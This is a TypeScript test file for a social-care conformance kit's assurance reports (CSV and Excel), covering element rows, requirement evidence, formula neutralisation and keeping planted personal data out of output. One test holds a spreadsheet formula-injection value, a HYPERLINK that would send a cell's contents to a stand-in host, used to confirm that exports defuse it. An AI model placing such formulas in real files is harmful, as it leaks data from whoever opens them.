import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { assurancePack, elementColumns, requirementColumns, type AssurancePack } from '../report/assurance.ts';
import { assuranceCsv } from '../report/csv.ts';
import { assuranceXlsx } from '../report/xlsx.ts';
import { writeAssurance } from '../report/write-assurance.ts';
import { loadSuite } from '../api/suite.ts';
import { conform, referenceAttestations, suiteDir, withReferenceServer } from './support.ts';

const { suite } = await loadSuite(suiteDir);
const classes = ['risk', 'subject_of_care'];
const clean = await withReferenceServer({}, (url) => conform(url, { classes, attestations: referenceAttestations }));
const pack = assurancePack(clean, suite);
const row = (p: AssurancePack, cls: string, element: string) => p.elements.find((r) => r.class === cls && r.element === element)!;

/** An RFC 4180 reader, enough to read back what assuranceCsv writes. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  const pattern = /"((?:[^"]|"")*)"(,|\r\n)/y;
  let cells: string[] = [];
  let at = 0;
  for (let m = pattern.exec(text); m; m = pattern.exec(text)) {
    cells.push(m[1]!.replaceAll('""', '"'));
    if (m[2] !== ',') (rows.push(cells), (cells = []));
    at = pattern.lastIndex;
  }
  expect(at, 'the CSV reads to its end').toBe(text.length);
  return rows;
}

async function readXlsx(buffer: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  return workbook;
}

describe('the assurance pack', () => {
  it('has one element row per element of every tested class, in suite order, and one row per requirement', () => {
    const want = suite.classes.filter((c) => classes.includes(c.record_type)).flatMap((c) => (c.elements ?? []).map((e) => `${c.record_type}.${e.name}`));
    expect(want.length).toBeGreaterThan(20);
    expect(pack.elements.map((r) => `${r.class}.${r.element}`)).toEqual(want);
    expect(pack.requirements.map((r) => r.requirement)).toEqual(clean.requirements.map((r) => r.requirement));
    expect(pack.header).toMatchObject({ system: clean.system.baseUrl, date: clean.date, kit: 'asc-mods test', spec: clean.spec.release, profile: 'published', verdict: clean.summary.verdict });
  });

  it('describes each element: published names, level, Occurs, authority, provenance; a modelled mandatory element is marked modelled', () => {
    expect(row(pack, 'risk', 'risk_category')).toMatchObject({ classPublishedName: 'Risk', elementPublishedName: 'Risk category', level: 'Must', occurs: 'Must occur once', authority: 'published', provenance: 'nhs-data-browser', held: 'yes', valueSet: 'care_support_risk_category' });
    expect(row(pack, 'subject_of_care', 'name')).toMatchObject({ level: 'Must', authority: 'modelled', occurs: '' });
  });

  it('says an element is held when the round trip gave it back unchanged, and lists the tests that bear on it', () => {
    expect(pack.elements.filter((r) => r.class === 'risk').map((r) => r.held)).toEqual(suite.classes.find((c) => c.record_type === 'risk')!.elements!.map(() => 'yes'));
    expect(row(pack, 'risk', 'risk_category').evidence).toBe('risk.round-trip: pass; risk.reject.missing.risk_category: pass');
    expect(row(pack, 'subject_of_care', 'nhs_number_verification_status').evidence).toBe('subject_of_care.round-trip: pass; subject_of_care.reject.value-set.nhs_number_verification_status: pass (advisory)');
    expect(row(pack, 'risk', 'comment').evidence).toBe('risk.round-trip: pass');
    expect(row(pack, 'subject_of_care', 'name').evidence).toBe('subject_of_care.round-trip: pass; subject_of_care.reject.missing.name: pass (advisory)');
  });

  it('says "no" for an optional element a system drops, and "not declared" for one it does not say it holds', async () => {
    const dropping = await withReferenceServer({ defect: 'drops-optional-elements' }, (url) => conform(url, { classes: ['risk'] }));
    const dropped = assurancePack(dropping, suite);
    expect(row(dropped, 'risk', 'comment')).toMatchObject({ level: 'May', held: 'no' });
    expect(row(dropped, 'risk', 'risk_category').held).toBe('yes');
    expect(row(dropped, 'risk', 'comment').evidence).toBe('risk.round-trip: fail');

    const declaring = await withReferenceServer({}, (url) => conform(url, { classes: ['risk'], manifest: { classes: [{ record_type: 'risk', elements: ['comment'] }, { record_type: 'subject_of_care' }] } }));
    const partial = assurancePack(declaring, suite);
    expect(row(partial, 'risk', 'comment').held).toBe('yes');
    expect(row(partial, 'risk', 'free_text').held).toBe('not declared');
    expect(row(partial, 'risk', 'risk_category').held).toBe('yes');
  });

  it('takes the terminology of coded elements from the manifest: Exact, Mapped, or not declared; N/A for the rest', () => {
    const withTerms = assurancePack(clean, suite, { classes: [{ record_type: 'risk', terminology: { risk_category: 'mapped' } }, { record_type: 'subject_of_care', terminology: { nhs_number_verification_status: 'exact' } }] });
    expect(row(withTerms, 'risk', 'risk_category').terminology).toBe('Mapped');
    expect(row(withTerms, 'subject_of_care', 'nhs_number_verification_status').terminology).toBe('Exact');
    expect(row(withTerms, 'risk', 'comment').terminology).toBe('N/A');
    expect(row(pack, 'risk', 'risk_category').terminology).toBe('not declared');
  });

  it('gives each requirement its status and evidence: tests and counts, the attestation, or the reason it is missing', async () => {
    const tested = pack.requirements.find((r) => r.status === 'tested')!;
    expect(tested.evidence).toMatch(/^pass \d+, fail 0, error 0, skip \d+: [a-z_]+\.[a-z_.-]+: pass/);
    const attested = clean.requirements.find((r) => r.status === 'attested')!;
    const attestedRow = pack.requirements.find((r) => r.requirement === attested.requirement)!;
    expect(attestedRow).toMatchObject({ status: 'attested', verdict: 'not tested' });
    for (const part of [attested.attestation!.statement, attested.attestation!.attestedBy, attested.attestation!.validUntil]) expect(attestedRow.evidence).toContain(part);

    const unattested = await withReferenceServer({}, (url) => conform(url, { classes: ['risk'] }));
    const missing = assurancePack(unattested, suite).requirements.find((r) => r.requirement === 'MODS-AUDIT-008')!;
    expect(missing).toMatchObject({ status: 'missing', verdict: 'not tested' });
    expect(missing.evidence).toMatch(/^not tested: .+/);
    expect(pack.requirements.every((r) => r.profile === 'data standard' || r.profile === 'asc-mods exchange API')).toBe(true);
  });

  it('cuts a long list of tests, failures first, saying how many more there are', () => {
    const model = clean.tests.find((t) => t.id === 'risk.create')!;
    const many = Array.from({ length: 400 }, (_, i) => ({ ...model, id: `risk.synthetic-${String(i).padStart(3, '0')}`, verdict: i === 399 ? ('fail' as const) : ('pass' as const) }));
    const requirement = model.requirements[0]!;
    const evidence = assurancePack({ ...clean, tests: [...clean.tests, ...many] }, suite).requirements.find((r) => r.requirement === requirement)!.evidence;
    expect(evidence.length).toBeLessThan(4200);
    expect(evidence).toMatch(/: risk\.synthetic-399: fail; /);
    expect(evidence).toMatch(/; and \d+ more \(\d+ pass\): conformance\.json lists every test$/);
  });

  it('when the round trip did not run: "not tested" for what the system must hold, "not declared" for the rest', async () => {
    const server = createServer((req, res) => {
      if (req.url === '/capability') return (res.writeHead(200, { 'Content-Type': 'application/json' }), res.end(JSON.stringify({ classes: [{ record_type: 'risk', elements: [] }] })));
      res.writeHead(500).end();
    });
    const result = await against(server, ['risk']);
    const p = assurancePack(result, suite);
    expect(row(p, 'risk', 'risk_category').held).toBe('not tested');
    expect(row(p, 'risk', 'comment').held).toBe('not declared');
    expect(row(p, 'risk', 'comment').evidence).toBe('risk.round-trip: skip');
  });
});

describe('the assurance CSV files', () => {
  const files = assuranceCsv(pack);

  it('are two tables, BOM first, CRLF between records, every field quoted, the column names in row 1', () => {
    for (const text of Object.values(files)) {
      expect(text.startsWith('\uFEFF"')).toBe(true);
      expect(text.endsWith('"\r\n')).toBe(true);
    }
    const elements = readCsv(files['assurance.csv'].slice(1));
    expect(elements[0]).toEqual(elementColumns.map((c) => c.label));
    expect(elements).toHaveLength(pack.elements.length + 1);
    expect(elements[1]).toEqual(elementColumns.map((c) => String(pack.elements[0]![c.key])));
    const requirements = readCsv(files['assurance-requirements.csv'].slice(1));
    expect(requirements[0]).toEqual(requirementColumns.map((c) => c.label));
    expect(requirements).toHaveLength(pack.requirements.length + 1);
  });

  it('neutralise formulas and keep quotes, commas and line breaks inside a cell', () => {
    const statement = '=HYPERLINK("http://x.invalid/?q="&A1,"click"), and\r\nmore';
    const hostile: AssurancePack = { ...pack, requirements: [{ ...pack.requirements[0]!, title: statement, evidence: `attested: ${statement}` }] };
    const text = assuranceCsv(hostile)['assurance-requirements.csv'];
    expect(text).toContain('"\'=HYPERLINK(""http://x.invalid/?q=""&A1,""click""), and\r\nmore"');
    const [, cells] = readCsv(text.slice(1));
    expect(cells![requirementColumns.findIndex((c) => c.key === 'title')]).toBe(`'${statement}`);
    expect(cells![requirementColumns.findIndex((c) => c.key === 'evidence')]).toBe(`attested: ${statement}`);
    expect(readCsv(text.slice(1))).toHaveLength(2);
  });
});

describe('the assurance workbook', () => {
  it('has Elements, Requirements and About; bold frozen header rows with a filter on every column; one row per element', async () => {
    const workbook = await readXlsx(await assuranceXlsx(pack));
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Elements', 'Requirements', 'About']);
    for (const [name, columns, rows] of [['Elements', elementColumns, pack.elements.length], ['Requirements', requirementColumns, pack.requirements.length]] as const) {
      const sheet = workbook.getWorksheet(name)!;
      expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(columns.map((c) => c.label));
      expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(sheet.autoFilter).toMatch(new RegExp(`^A1:${String.fromCharCode(64 + columns.length)}1$`));
      expect(sheet.rowCount).toBe(rows + 1);
      expect(sheet.getColumn(1).width).toBeGreaterThan(5);
    }
    const elements = workbook.getWorksheet('Elements')!;
    expect(elements.getRow(2).getCell(3).value).toBe(pack.elements[0]!.element);
    const about = (workbook.getWorksheet('About')!.getSheetValues() as unknown[][]).map((r) => (r ?? []).slice(1).join(' | ')).join('\n');
    expect(about).toContain(`System | ${clean.system.baseUrl}`);
    expect(about).toContain(`Run date | ${clean.date}`);
    expect(about).toContain("the asc-mods model's, not the published standard's");
    expect(workbook.created.toISOString()).toBe(`${clean.date.slice(0, 19)}.000Z`);
  });

  it('depends on the pack alone, not the clock; a value starting with "=" is a string, not a formula', async () => {
    const hostile: AssurancePack = { ...pack, requirements: [{ ...pack.requirements[0]!, title: '=1+1' }] };
    vi.useFakeTimers({ toFake: ['Date'] });
    try {
      vi.setSystemTime(new Date('2031-01-01T00:00:00Z'));
      const first = await assuranceXlsx(hostile);
      vi.setSystemTime(new Date('2032-06-15T13:37:11Z'));
      const second = await assuranceXlsx(hostile);
      expect(second.equals(first)).toBe(true);
    } finally {
      vi.useRealTimers();
    }
    const workbook = await readXlsx(await assuranceXlsx(hostile));
    const cell = workbook.getWorksheet('Requirements')!.getRow(2).getCell(2);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe('=1+1');
  });

  it('writeAssurance writes the two CSV files and the workbook, and returns their paths', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'asc-mods-assurance-'));
    try {
      const paths = await writeAssurance(join(dir, 'reports'), clean, suite);
      expect(paths).toEqual(['assurance.csv', 'assurance-requirements.csv', 'assurance.xlsx'].map((f) => join(dir, 'reports', f)));
      expect(await readFile(paths[0]!, 'utf8')).toBe(assuranceCsv(pack)['assurance.csv']);
      expect((await readXlsx(await readFile(paths[2]!))).worksheets).toHaveLength(3);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('personal values a system sends', () => {
  it('never reach the pack nor the test messages, though they are in the responses the run holds', async () => {
    const nhsNumber = '9434765919';
    const name = 'Realname Plantedsurname';
    const person = { record_type: 'subject_of_care', record_uid: 'u', version_number: 1, nhs_number: nhsNumber, name: { given: name } };
    const created = new Set<string>();
    const server = createServer(async (req, res) => {
      if (req.url === '/capability') return (res.writeHead(200, { 'Content-Type': 'application/json' }), res.end(JSON.stringify({ classes: [{ record_type: 'risk', elements: [nhsNumber] }, { record_type: 'subject_of_care', elements: [name] }] })));
      // The first record of each class (the suite's setup) is taken, and echoed with the planted values; every other is refused.
      const path = req.url!.split('?')[0]!;
      if (req.method === 'POST' && !created.has(path)) {
        created.add(path);
        const chunks: Buffer[] = [];
        for await (const chunk of req) chunks.push(chunk as Buffer);
        const body = JSON.parse(Buffer.concat(chunks).toString('utf8')) as Record<string, unknown>;
        res.writeHead(201, { 'Content-Type': 'application/json', ETag: '"1"', Location: `${path}/${String(body['record_uid'])}` });
        return res.end(JSON.stringify({ ...body, nhs_number: nhsNumber, name: { given: name }, comment: name }));
      }
      if (req.method === 'GET') return (res.writeHead(200, { 'Content-Type': 'application/json', ETag: `"${nhsNumber}"` }), res.end(JSON.stringify(req.url?.includes('?') ? { items: [person] } : person)));
      res.writeHead(422, { 'Content-Type': 'application/problem+json' });
      res.end(JSON.stringify({ title: `${name} ${nhsNumber} exists`, status: 422, errors: [{ pointer: `/${nhsNumber}`, detail: name }] }));
    });
    const result = await against(server, classes);
    const responses = JSON.stringify(result.tests.flatMap((t) => t.evidence.map((e) => e.response)));
    expect(responses, 'the planted values are in what the system answered, so the test means something').toContain(nhsNumber);
    expect(responses).toContain(name);
    const messages = result.tests.map((t) => t.message).join('\n');
    expect(messages).not.toContain(nhsNumber);
    expect(messages).not.toContain('Realname');
    const p = assurancePack(result, suite);
    const csv = Object.values(assuranceCsv(p)).join('\n');
    const workbook = await readXlsx(await assuranceXlsx(p));
    const cells = workbook.worksheets.flatMap((s) => (s.getSheetValues() as unknown[][]).flatMap((r) => (r ?? []).map(String))).join('\n');
    expect(cells.length).toBeGreaterThan(1000);
    for (const text of [csv, cells, JSON.stringify(p)]) {
      expect(text).not.toContain(nhsNumber);
      expect(text).not.toContain('Realname');
      expect(text).not.toContain('Plantedsurname');
    }
  });
});

const servers: Server[] = [];
afterAll(() => {
  for (const s of servers) (s.closeAllConnections(), s.close());
});

async function against(server: Server, only: readonly string[]) {
  servers.push(server);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return conform(`http://127.0.0.1:${(server.address() as AddressInfo).port}`, { classes: only, requestTimeoutMs: 1000 });
}
